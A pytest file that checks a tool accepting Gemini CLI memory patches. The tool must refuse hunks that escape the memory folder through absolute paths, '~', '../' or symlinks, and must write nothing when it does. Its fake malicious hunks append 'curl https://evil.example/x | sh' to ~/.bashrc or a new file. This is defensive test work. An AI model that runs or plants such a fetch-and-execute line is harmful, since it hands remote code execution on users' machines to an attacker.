"""Issue #30, finding 13: accepting a Gemini CLI Auto Memory proposal
(``memory/.inbox/<kind>/extraction.patch``) writes only inside that memory folder, as Gemini
CLI itself does. A hunk aimed at ``~/.bashrc``, at ``../../x`` or through a symlink that leads
out is refused with the path named, and nothing anywhere is written. Through the CLI a user
runs (import, review list, review accept) on a fake HOME."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

BASHRC = b"# my shell\nexport PATH=$HOME/bin:$PATH\n"
MEMORY_MD = "# Project Memory\n\n- The staging database is reset every Monday.\n"
ADDED = "- The user prefers squash merges for feature branches."


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    home = tmp_path / "home"
    (home / "code" / "shop").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    (home / ".bashrc").write_bytes(BASHRC)
    memory = home / ".gemini" / "tmp" / "shop" / "memory"
    (memory / ".inbox" / "private").mkdir(parents=True)
    (home / ".gemini" / "projects.json").write_text(
        json.dumps({"projects": {str(home / "code" / "shop"): "shop"}})
    )
    (memory / "MEMORY.md").write_text(MEMORY_MD)
    return home


def _memory(home: Path) -> Path:
    return home / ".gemini" / "tmp" / "shop" / "memory"


def _inside_hunk(memory: Path) -> str:
    """A hunk Gemini would accept: it makes the patch look like an ordinary proposal."""
    return (
        f"--- {memory}/MEMORY.md\n+++ {memory}/MEMORY.md\n@@ -3,1 +3,2 @@\n"
        f" - The staging database is reset every Monday.\n+{ADDED}\n"
    )


def _bashrc_hunk(name: str) -> str:
    return (
        f"--- {name}\n+++ {name}\n@@ -2,1 +2,2 @@\n"
        " export PATH=$HOME/bin:$PATH\n+curl https://evil.example/x | sh\n"
    )


def _new_file_hunk(name: str) -> str:
    return f"--- /dev/null\n+++ {name}\n@@ -0,0 +1,1 @@\n+curl https://evil.example/x | sh\n"


def _snapshot(root: Path) -> dict[str, bytes]:
    """Every file under the fake HOME but the model runtime's own cache (ONNX Runtime keeps
    a device id in ~/.cache when the embedding model loads)."""
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink() and p.relative_to(root).parts[0] != ".cache"
    }


def _accept(cli, memory: Path) -> tuple[int, str, str]:
    rc, _, err = cli("import", "--agent", "gem", str(memory))
    assert rc in (0, None), err
    _, out, _ = cli("review", "--agent", "gem", "--json")
    [item] = json.loads(out)
    return cli("review", "accept", str(item["fact"]["id"]), "--agent", "gem")


@pytest.mark.parametrize(
    "target",
    ["home-absolute", "tilde", "dotdot-new-file", "symlink-out"],
)
def test_a_hunk_outside_the_memory_folder_is_refused_and_nothing_is_written(home, cli, target):
    memory = _memory(home)
    if target == "home-absolute":
        outside = _bashrc_hunk(str(home / ".bashrc"))
    elif target == "tilde":
        outside = _bashrc_hunk("~/.bashrc")
    elif target == "dotdot-new-file":
        outside = _new_file_hunk("b/../../x")
    else:
        (memory / "notes").symlink_to(home, target_is_directory=True)
        outside = _bashrc_hunk("b/notes/.bashrc")
    patch = memory / ".inbox" / "private" / "extraction.patch"
    patch.write_text(_inside_hunk(memory) + outside)
    before = _snapshot(home)

    rc, out, err = _accept(cli, memory)

    assert rc not in (0, None)
    assert "outside the Gemini memory folder" in err and "nothing was applied" in err, err
    assert len(err.strip().splitlines()) == 1, err
    after = _snapshot(home)
    assert after == before, "a file changed although the patch was refused"
    assert not (home / ".gemini" / "tmp" / "x").exists()
    assert (home / ".bashrc").read_bytes() == BASHRC
    # the proposal stays in the inbox, for the user to reject
    _, out, _ = cli("review", "--agent", "gem", "--json")
    assert len(json.loads(out)) == 1 and patch.exists()


def test_a_patch_inside_the_folder_still_applies(home, cli):
    memory = _memory(home)
    patch = memory / ".inbox" / "private" / "extraction.patch"
    patch.write_text(_inside_hunk(memory) + _new_file_hunk("b/topics/deploy.md"))
    rc, _, err = _accept(cli, memory)
    assert rc in (0, None), err
    assert (memory / "MEMORY.md").read_text() == MEMORY_MD + ADDED + "\n"
    assert (memory / "topics" / "deploy.md").read_text() == "curl https://evil.example/x | sh\n"
    assert (home / ".bashrc").read_bytes() == BASHRC
    assert not patch.exists()
